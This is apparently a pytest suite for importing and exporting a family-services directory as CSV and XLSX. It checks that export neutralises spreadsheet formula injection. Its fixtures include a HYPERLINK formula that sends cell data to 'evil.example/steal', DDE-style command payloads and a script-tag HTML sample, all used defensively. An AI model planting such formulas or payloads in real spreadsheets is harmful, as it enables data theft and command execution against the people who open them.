"""Spreadsheet import and export of services: the template, the all-or-nothing importer, the
export (formula injection neutralised) and the import_services / export_services commands."""

from __future__ import annotations

import csv
import datetime
import io
import uuid

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl.utils import get_column_letter
from wagtail.models import Revision

from directory.models import (
    Organisation,
    ServiceArea,
    ServiceLanguage,
    ServiceLocation,
    ServicePage,
)
from directory.safe_export import neutralise
from directory.site_setup import COMMISSIONERS
from exchange.management.commands.import_services import Command as ImportCommand
from exchange.spreadsheets.columns import headers
from exchange.spreadsheets.importer import import_services
from exchange.spreadsheets.reading import MAX_CELL_CHARS
from exchange.spreadsheets.writing import export_services
from search.models import SearchEntry

from .spreadsheet_files import csv_file, row, xlsx_file

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for help")'


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def services_setup(site_structure, organisation, postcodes):
    return site_structure


@pytest.fixture
def council(db) -> Organisation:
    return Organisation.objects.create(name="Lewisham Council", is_commissioner=True)


# -- a good file ----------------------------------------------------------------------------


def test_good_csv_creates_published_services_with_every_part(services_setup, commissioner):
    content = csv_file(
        [
            row(),
            row(
                name="Dads' Club",
                needs="Parenting programmes",
                levels="universal; Targeted",
                is_free="no",
                fees_description="£2 a session",
                schedules="",
                languages="",
                location_1_name="",
                location_1_address="",
                location_1_postcode="",
                contact_1_phone="",
                contact_1_email="dads@example.org",
            ),
        ]
    )
    report = import_services(content, "services.csv", publish=True, user=commissioner)

    assert report.ok, report.errors
    assert (report.created, report.updated, report.unchanged) == (2, 0, 0)
    page = ServicePage.objects.get(title="Bumps and Babies")
    assert page.live and not page.has_unpublished_changes
    assert page.get_parent().pk == services_setup.directory.pk
    assert page.organisation.name == "Riverside Family Trust"
    assert page.for_expectant_parents and page.self_referral and page.in_person
    assert not page.online and page.is_free
    assert page.last_reviewed == datetime.date(2025, 2, 1)
    assert page.description == "<p>Meet other parents.</p><p>A midwife comes every week.</p>"
    assert sorted(n.name for n in page.needs.all()) == ["Infant feeding", "Pregnancy and birth"]
    assert [level.slug for level in page.levels.all()] == ["universal"]
    assert [(s.weekday, s.opens_at, s.closes_at, s.description) for s in page.schedules.all()] == [
        ("tu", datetime.time(9, 30), datetime.time(11, 30), "Drop-in"),
        ("th", datetime.time(13, 0), datetime.time(14, 30), ""),
    ]
    assert [(lang.code, lang.note) for lang in page.languages.all()] == [
        ("pl", ""),
        ("ar", "interpreter on request"),
    ]
    location = page.locations.get()
    assert location.postcode == "SE6 4RU"  # normalised as the admin does
    assert (location.latitude, location.longitude) == (51.4381, -0.0190)  # geocoded
    assert page.contacts.get().phone == "020 7946 0001"
    revision = page.latest_revision
    assert revision.user == commissioner
    # Published imports reach the search index (after the transaction).
    assert SearchEntry.objects.filter(page=page).exists()

    dads = ServicePage.objects.get(title="Dads' Club")
    assert not dads.is_free and dads.fees_description == "£2 a session"
    assert [level.slug for level in dads.levels.order_by("rank")] == ["universal", "targeted"]
    assert dads.contacts.get().email == "dads@example.org"
    assert dads.locations.count() == 0


def test_drafts_are_not_published_and_not_searchable(services_setup, commissioner):
    report = import_services(csv_file([row()]), "services.csv", publish=False, user=commissioner)

    assert report.ok and report.created == 1
    page = ServicePage.objects.get(title="Bumps and Babies")
    assert not page.live and page.has_unpublished_changes
    assert page.latest_revision.user == commissioner
    assert not SearchEntry.objects.filter(page=page).exists()
    assert "saved as drafts" in report.summary()


def test_xlsx_with_real_date_cells_numbers_and_a_phone_typed_as_a_number(services_setup):
    content = xlsx_file(
        [
            row(
                last_reviewed=datetime.datetime(2025, 3, 31),
                contract_start=datetime.date(2024, 4, 1),
                minimum_age=0,
                maximum_age=1.0,
                review_interval_months=6,
                self_referral=True,
                contact_1_phone=2079460001,  # Excel dropped the leading 0
            )
        ]
    )
    report = import_services(content, "services.xlsx", publish=True)

    assert report.ok, report.errors
    page = ServicePage.objects.get()
    assert page.last_reviewed == datetime.date(2025, 3, 31)
    assert page.contract_start == datetime.date(2024, 4, 1)
    assert (page.minimum_age, page.maximum_age, page.review_interval_months) == (0, 1, 6)
    assert page.contacts.get().phone == "02079460001"


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_csv_with_or_without_byte_order_mark(services_setup, bom):
    report = import_services(bom + csv_file([row(fees_description="£1")]), "s.csv")
    assert report.ok, report.errors
    assert ServicePage.objects.get().fees_description == "£1"


def test_csv_that_is_not_utf8_is_refused_clearly(services_setup):
    content = csv_file([row(fees_description="£1")]).decode("utf-8").encode("cp1252")
    report = import_services(content, "s.csv")
    assert not report.ok
    assert "not UTF-8" in report.file_errors[0] and "CSV UTF-8" in report.file_errors[0]
    assert ServicePage.objects.count() == 0


def test_csv_with_semicolons_between_columns_is_refused_clearly(services_setup):
    content = csv_file([row()]).decode("utf-8").replace(",", ";").encode("utf-8")
    report = import_services(content, "s.csv")
    assert "separated by semicolons" in report.file_errors[0]


def test_description_html_is_cleaned_like_the_editor_does(services_setup):
    html = '<p>Hello <b>there</b><script>alert(1)</script></p><p onclick="x()">Bye</p>'
    report = import_services(csv_file([row(description=html)]), "s.csv", publish=True)
    assert report.ok
    assert ServicePage.objects.get().description == "<p>Hello <b>there</b>alert(1)</p><p>Bye</p>"


# -- bad rows: nothing is written -----------------------------------------------------------


def test_one_bad_row_among_hundreds_writes_nothing_and_names_the_row(services_setup):
    rows = [row(name=f"Service {n}") for n in range(350)]
    rows[237] = row(name="Service 237", minimum_age="ten")
    before = ServicePage.objects.count()
    revisions = Revision.objects.count()

    report = import_services(csv_file(rows), "services.csv", publish=True)

    assert not report.ok
    assert report.rows == 350
    assert [(e.row, e.column) for e in report.errors] == [(239, "minimum_age")]  # header = row 1
    assert "'ten' is not a whole number" in report.errors[0].message
    assert ServicePage.objects.count() == before
    assert Revision.objects.count() == revisions
    assert "1 of 350 rows" in report.summary()


def test_every_bad_row_and_column_is_reported(services_setup, council):
    content = csv_file(
        [
            row(),
            row(
                name="",
                organisation="Nobody Ltd",
                levels="",
                status="paused",
                website="not a url",
                minimum_age="5",
                maximum_age="3",
            ),
            row(
                schedules="Funday 09:00-10:00",
                last_reviewed="31 March",
                commissioned="yes",
                is_free="maybe",
                location_2_postcode="SE13 6LH",
                contact_1_phone="123",
            ),
            row(commissioned="yes", commissioner="Riverside Family Trust", is_free="no"),
        ]
    )
    report = import_services(content, "s.csv")
    found = {(e.row, e.column) for e in report.errors}
    assert found == {
        (3, "name"),
        (3, "organisation"),
        (3, "levels"),
        (3, "status"),
        (3, "website"),
        (3, "maximum_age"),
        (4, "schedules"),
        (4, "last_reviewed"),
        (4, "is_free"),
        (4, "commissioner"),
        (4, "location_2_name"),
        (4, "contact_1_phone"),
        (5, "commissioner"),
        (5, "fees_description"),
    }
    messages = {(e.row, e.column): e.message for e in report.errors}
    assert "no organisation called 'Nobody Ltd'" in messages[(3, "organisation")]
    assert "'Funday' is not a day" in messages[(4, "schedules")]
    assert "not marked as a commissioner" in messages[(5, "commissioner")]
    assert ServicePage.objects.count() == 0


def test_child_rows_problems_name_their_group_columns(services_setup):
    content = csv_file(
        [
            row(contact_1_phone="", contact_2_name="Nobody", location_3_latitude="51.4"),
            row(schedules="Mon 11:00-10:00", languages="Klingon"),
        ]
    )
    report = import_services(content, "s.csv")
    assert [(e.row, e.column) for e in report.errors] == [
        (2, "location_3_name"),
        (2, "location_3_latitude"),
        (2, "contact_1_phone"),
        (2, "contact_2_phone"),
        (3, "languages"),
        (3, "schedules"),
    ]
    messages = [e.message for e in report.errors]
    assert messages[1] == "Give both latitude and longitude, or neither."
    assert messages[2] == "Give a phone number or an email address for the contact."
    assert messages[5] == "Closing time must be after opening time."


def test_xlsx_row_numbers_count_blank_rows(services_setup):
    content = xlsx_file([row(), {}, {}, row(needs="Nonsense")])
    report = import_services(content, "s.xlsx")
    assert [(e.row, e.column) for e in report.errors] == [(5, "needs")]


def test_unknown_need_is_reported_with_its_column(services_setup):
    content = csv_file([row(needs="Infant feeding; Underwater basket weaving")])
    report = import_services(content, "s.csv")
    assert [(e.row, e.column) for e in report.errors] == [(2, "needs")]
    assert "'Underwater basket weaving'" in report.errors[0].message
    assert ServicePage.objects.count() == 0


def test_wrong_columns_are_named_before_any_row_is_read(services_setup):
    columns = [c for c in headers() if c not in ("summary", "location_2_town")]
    columns += ["phone_number", "name"]
    report = import_services(csv_file([row()], columns), "s.csv")

    assert not report.ok and not report.errors
    text = " ".join(report.file_errors)
    assert "Unknown columns: phone_number." in text
    assert "Missing columns: summary, location_2_town." in text
    assert "more than once: name." in text
    assert ServicePage.objects.count() == 0


def test_a_huge_cell_is_a_clear_error_not_a_crash(services_setup):
    huge = "x" * 200_000  # beyond the csv module's default field limit (131,072)
    report = import_services(csv_file([row(), row(description=huge)]), "s.csv")
    assert [(e.row, e.column) for e in report.errors] == [(3, "description")]
    assert "200,000 characters" in report.errors[0].message
    assert f"{MAX_CELL_CHARS:,}" in report.errors[0].message
    assert ServicePage.objects.count() == 0


def test_same_oruk_id_twice_is_an_error_on_the_second_row(services_setup):
    same = str(uuid.uuid4())
    report = import_services(
        csv_file([row(oruk_id=same), row(oruk_id=same, name="Other")]), "s.csv"
    )
    assert [(e.row, e.column) for e in report.errors] == [(3, "oruk_id")]
    assert "also on row 2" in report.errors[0].message


def test_oruk_id_from_another_system_creates_with_that_id_and_malformed_is_an_error(
    services_setup,
):
    outside = "9a1d6c8e-5f0b-4b7a-8c2d-3e4f5a6b7c8d"
    report = import_services(csv_file([row(oruk_id="not-an-id")]), "s.csv")
    assert [(e.row, e.column) for e in report.errors] == [(2, "oruk_id")]

    report = import_services(csv_file([row(oruk_id=outside.upper())]), "s.csv")
    assert report.ok and report.created == 1
    assert ServicePage.objects.get().oruk_id == outside


def test_rows_with_extra_cells_or_under_no_header_are_reported(services_setup):
    columns = [*headers(), ""]
    content = csv_file([row(**{"": "stray"}), row()], columns)
    content = content.rstrip(b"\r\n") + b",extra\r\n"
    report = import_services(content, "s.csv")
    assert [(e.row, e.column) for e in report.errors] == [
        (2, f"column {get_column_letter(len(columns))}"),
        (3, ""),
    ]
    assert "no header" in report.errors[0].message
    assert f"only {len(columns)} column headers" in report.errors[1].message


# -- updates, round trips and export -------------------------------------------------------


@pytest.fixture
def rich_service(make_service, council, postcodes, site_structure):
    home = site_structure.home.pk
    page = make_service(
        title="Bumps and Babies",
        description=f'<p>Meet other parents; it&#x27;s <b>free</b>. <a linktype="page" id="{home}">'
        "Home</a></p>",
        needs=["Infant feeding", "Pregnancy and birth"],
        circumstances=["Lone parents"],
        levels=["universal", "universal-plus"],
        commissioned=True,
        commissioner=council,
        contract_start=datetime.date(2024, 4, 1),
        alert=HYPERLINK,
        locations=[
            {"name": "Catford Family Hub", "address_1": "1 Hub Road", "postcode": "SE6 4RU"},
            {"name": "Lewisham Library", "postcode": "SE13 6LH", "accessibility": "Lift"},
        ],
        contacts=[
            {"name": "Hub team", "phone": "+44 20 7946 0001", "email": "hub@example.org"},
            {"name": "Midwife", "title": "-", "email": "midwife@example.org"},
        ],
        schedules=[
            {
                "weekday": "tu",
                "opens_at": datetime.time(9, 30),
                "closes_at": datetime.time(11, 30),
                "description": "Drop-in; no need to book",
            }
        ],
    )
    page.languages = [ServiceLanguage(code="pl", note="Interpreter: on request")]
    page.service_areas = [ServiceArea(name="Bellingham ward", description="North")]
    page.save_revision().publish()
    return ServicePage.objects.get(pk=page.pk)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_changes_nothing(rich_service, make_service, file_format):
    make_service(title="Dads' Club", publish=False)
    content, count = export_services(file_format)
    assert count == 2
    revisions = Revision.objects.count()
    children = sorted(ServiceLocation.objects.values_list("pk", "oruk_id"))

    report = import_services(content, f"services.{file_format}", publish=False)

    assert report.ok, report.errors
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert Revision.objects.count() == revisions
    assert sorted(ServiceLocation.objects.values_list("pk", "oruk_id")) == children
    # The XLSX has the documentation sheet too.
    if file_format == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        assert workbook.sheetnames == ["Services", "Columns", "Lists"]


def test_update_by_oruk_id_keeps_the_page_and_its_child_ids(rich_service, commissioner):
    exported = read_csv(export_services("csv")[0])
    exported[0]["summary"] = "New summary for families."
    exported[0]["location_2_postcode"] = "SE4 1UA"
    exported[0]["contact_2_name"] = ""
    exported[0]["contact_2_role"] = ""
    exported[0]["contact_2_email"] = ""
    contact_ids = list(rich_service.contacts.values_list("oruk_id", flat=True))
    location_ids = list(rich_service.locations.values_list("oruk_id", flat=True))
    revisions = rich_service.revisions.count()

    report = import_services(
        csv_file(exported, list(exported[0])), "s.csv", publish=True, user=commissioner
    )

    assert report.ok, report.errors
    assert (report.created, report.updated) == (0, 1)
    page = ServicePage.objects.get(pk=rich_service.pk)
    assert page.summary == "New summary for families."
    assert page.alert == HYPERLINK  # the apostrophe added on export came off again
    assert page.revisions.count() == revisions + 1
    assert page.latest_revision.user == commissioner
    assert list(page.locations.values_list("oruk_id", flat=True)) == location_ids
    moved = page.locations.get(oruk_id=location_ids[1])
    assert (moved.postcode, moved.latitude) == ("SE4 1UA", 51.4620)  # geocoded again
    assert list(page.contacts.values_list("oruk_id", flat=True)) == contact_ids[:1]


def test_draft_update_leaves_the_live_service_as_it_was(rich_service):
    exported = read_csv(export_services("csv")[0])
    exported[0]["summary"] = "Changed in the spreadsheet."

    report = import_services(csv_file(exported, list(exported[0])), "s.csv", publish=False)

    assert report.ok and report.updated == 1
    page = ServicePage.objects.get(pk=rich_service.pk)
    assert page.live and page.has_unpublished_changes
    assert page.summary != "Changed in the spreadsheet."
    assert page.get_latest_revision_as_object().summary == "Changed in the spreadsheet."
    # The export has the latest content by default, and the live content with live_only.
    assert read_csv(export_services("csv")[0])[0]["summary"] == "Changed in the spreadsheet."
    live = read_csv(export_services("csv", live_only=True)[0])
    assert live[0]["summary"] == rich_service.summary


def test_a_deleted_service_is_not_updated(rich_service, commissioner):
    from wagtail.models import Page

    from directory.models import DeletedService, DeletedServicesPage

    exported = export_services("csv")[0]
    bin_page = DeletedServicesPage.objects.first() or Page.get_first_root_node().add_child(
        instance=DeletedServicesPage(title="Deleted services", slug="deleted-services")
    )
    DeletedService.objects.create(page=rich_service, deleted_by=commissioner)
    rich_service.move(bin_page, pos="last-child")

    report = import_services(exported, "s.csv")
    assert [(e.row, e.column) for e in report.errors] == [(2, "oruk_id")]
    assert "restore it first" in report.errors[0].message
    assert export_services("csv")[1] == 0  # the bin is never exported


def test_export_neutralises_formula_injection(rich_service):
    content, _ = export_services("csv")
    exported = read_csv(content)[0]
    assert exported["alert"] == "'" + HYPERLINK
    assert exported["contact_1_phone"] == "+44 20 7946 0001"  # a phone number is left alone
    assert exported["contact_2_role"] == "'-"
    assert exported["location_1_longitude"] == "-0.019"  # so is a number

    workbook = openpyxl.load_workbook(io.BytesIO(export_services("xlsx")[0]))
    sheet = workbook["Services"]
    column = [cell.value for cell in sheet[1]].index("alert")
    cell = sheet.cell(row=2, column=column + 1)
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("-0.0190", "-0.0190"),
        ("+44 (0)20 7946 0001", "+44 (0)20 7946 0001"),
        ("Plain = fine", "Plain = fine"),
        (4, 4),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_adds_groups_for_services_with_more_locations(make_service, postcodes):
    make_service(locations=[{"name": f"Venue {n}", "postcode": "SE13 6LH"} for n in range(5)])
    content, _ = export_services("csv")
    exported = read_csv(content)
    assert exported[0]["location_5_name"] == "Venue 4"
    assert "location_6_name" not in exported[0]
    assert "contact_2_email" in exported[0]  # the template's groups are always there

    report = import_services(content, "s.csv")  # any number of groups is accepted
    assert report.ok and report.unchanged == 1


def test_template_is_the_export_of_nothing():
    for file_format in ("csv", "xlsx"):
        from exchange.spreadsheets.writing import template

        content = template(file_format)
        if file_format == "csv":
            assert content.decode("utf-8-sig").strip() == ",".join(headers())
        else:
            workbook = openpyxl.load_workbook(io.BytesIO(content))
            assert [c.value for c in workbook["Services"][1]] == headers()
            documented = [r[0].value for r in workbook["Columns"].iter_rows(min_row=2)]
            assert "location_N_postcode" in documented and "oruk_id" in documented


# -- the commands ---------------------------------------------------------------------------


def test_import_command_exits_non_zero_and_lists_every_problem(
    services_setup, tmp_path, capsys, monkeypatch
):
    path = tmp_path / "services.csv"
    path.write_bytes(csv_file([row(), row(needs="Nonsense"), row(last_reviewed="2099-01-01")]))
    # run_from_argv closes every database connection as it exits, which on PostgreSQL would
    # end the test's own transaction; the exit status is what is under test here.
    monkeypatch.setattr("django.db.connections.close_all", lambda: None)

    with pytest.raises(SystemExit) as exit_info:
        ImportCommand().run_from_argv(["manage.py", "import_services", str(path), "--no-progress"])

    assert exit_info.value.code != 0
    err = capsys.readouterr().err
    assert "row 3, column needs: Not in the directory's list of needs: 'Nonsense'" in err
    assert "row 4, column last_reviewed: The review date cannot be in the future." in err
    assert "Nothing was imported" in err
    assert ServicePage.objects.count() == 0


def test_commands_export_and_import(rich_service, make_user, tmp_path):
    user = make_user(COMMISSIONERS, "importer")
    path = tmp_path / "all.xlsx"
    out = io.StringIO()
    call_command("export_services", str(path), stdout=out)
    assert "Wrote 1 services" in out.getvalue()

    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Services"]
    column = [cell.value for cell in sheet[1]].index("name") + 1
    sheet.cell(row=2, column=column).value = "Bumps, Babies and Toddlers"
    sheet.append([None] * len(headers()))  # blank rows are skipped
    new = row(name="Toddler Time")
    sheet.append([new.get(cell.value) for cell in sheet[1]])
    workbook.save(path)

    out = io.StringIO()
    call_command(
        "import_services", str(path), "--publish", "--user", "importer", "--no-progress", stdout=out
    )
    assert "1 services created, 1 updated, 0 unchanged" in out.getvalue()
    assert ServicePage.objects.get(pk=rich_service.pk).title == "Bumps, Babies and Toddlers"
    created = ServicePage.objects.get(title="Toddler Time")
    assert created.live and created.latest_revision.user == user


def test_commands_refuse_unknown_formats_and_users(services_setup, tmp_path):
    with pytest.raises(CommandError, match="Choose a .csv or .xlsx file"):
        call_command("export_services", str(tmp_path / "services.txt"))
    path = tmp_path / "s.csv"
    path.write_bytes(csv_file([row()]))
    with pytest.raises(CommandError, match="No user called 'ghost'"):
        call_command("import_services", str(path), "--user", "ghost")
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_services", str(tmp_path / "missing.csv"))
